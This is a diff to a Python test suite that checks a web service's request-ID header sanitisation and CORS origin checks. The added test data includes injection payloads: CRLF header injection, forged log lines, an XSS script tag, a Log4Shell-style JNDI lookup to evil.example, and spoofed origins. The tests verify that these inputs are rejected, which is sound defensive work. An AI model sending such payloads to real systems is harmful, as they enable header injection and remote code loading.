@@ -73,7 +73,26 @@ async def test_a_good_request_id_is_kept(client: httpx.AsyncClient, given: str) 
 
 
 @pytest.mark.parametrize(
-    "given", [b"", b"x" * 129, b'a"b\xff{}', b"a b", b"a\tb", "é".encode(), b"a;b", b"a\x00"]
+    "given",
+    [
+        b"",
+        b" ",
+        b"x" * 129,
+        b'a"b\xff{}',
+        b"a b",
+        b"a\tb",
+        "é".encode(),
+        b"\xd9\xa3",  # a digit three, an Arabic one
+        b"a;b",
+        b"a\x00",
+        b"a\r\nSet-Cookie: b=c",
+        b"a\n",
+        b'"}\n{"level":"ERROR"}',
+        b"\x1b[31ma",
+        b"<script>alert(1)</script>",
+        b"${jndi:ldap://evil.example/a}",
+        b"%0d%0a",
+    ],
 )
 async def test_a_bad_request_id_is_replaced(
     client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, given: bytes
@@ -84,7 +103,15 @@ async def test_a_bad_request_id_is_replaced(
 
     assert uuid.UUID(response.headers["x-request-id"]).version == 4
     assert response.json()["request_id"] == response.headers["x-request-id"]
-    assert not given or given.decode("latin-1") not in caplog.text
+    assert not given.strip() or given.decode("latin-1") not in caplog.text
+
+
+async def test_of_several_request_ids_one_counts(client: httpx.AsyncClient) -> None:
+    """Given twice, the header comes back once, with an id that was fit for it."""
+    given = [(b"X-Request-ID", value) for value in (b"good", b"<bad>")]
+    response = await client.get("/health/live", headers=given)
+
+    assert response.headers.get_list("x-request-id") == ["good"]
 
 
 async def test_each_request_gets_an_id_of_its_own(client: httpx.AsyncClient) -> None:
@@ -312,6 +339,35 @@ async def test_a_known_answer_tells_of_the_drain(
 
     assert response.json() == {"status": "unavailable", "reason": "draining"}
     assert response.headers["connection"] == "close"
+
+
+@pytest.mark.parametrize(
+    "origin",
+    [
+        "null",
+        "*",
+        "",
+        f"{ORIGIN}/",
+        f"{ORIGIN}:444",
+        f"{ORIGIN}.evil.example",
+        f"https://evil.example#{ORIGIN}",
+        f"https://evil.example, {ORIGIN}",
+        f"{ORIGIN} https://evil.example",
+        f"{ORIGIN}\r\nX-Evil: 1",
+        ORIGIN.replace("https", "http"),
+        ORIGIN.upper(),
+    ],
+)
+async def test_cors_for_no_other_origin(client: httpx.AsyncClient, origin: str) -> None:
+    """What only looks like an origin of ours is let in by neither answer, credentials never."""
+    headers = {"Origin": origin, "Access-Control-Request-Method": "GET"}
+    preflight = await client.options("/health/live", headers=headers)
+    simple = await client.get("/health/live", headers=headers)
+
+    assert preflight.status_code == 400
+    for response in (preflight, simple):
+        assert "access-control-allow-origin" not in response.headers
+        assert "access-control-allow-credentials" not in response.headers
 
 
 async def test_preflight_has_an_id_too(client: httpx.AsyncClient) -> None:
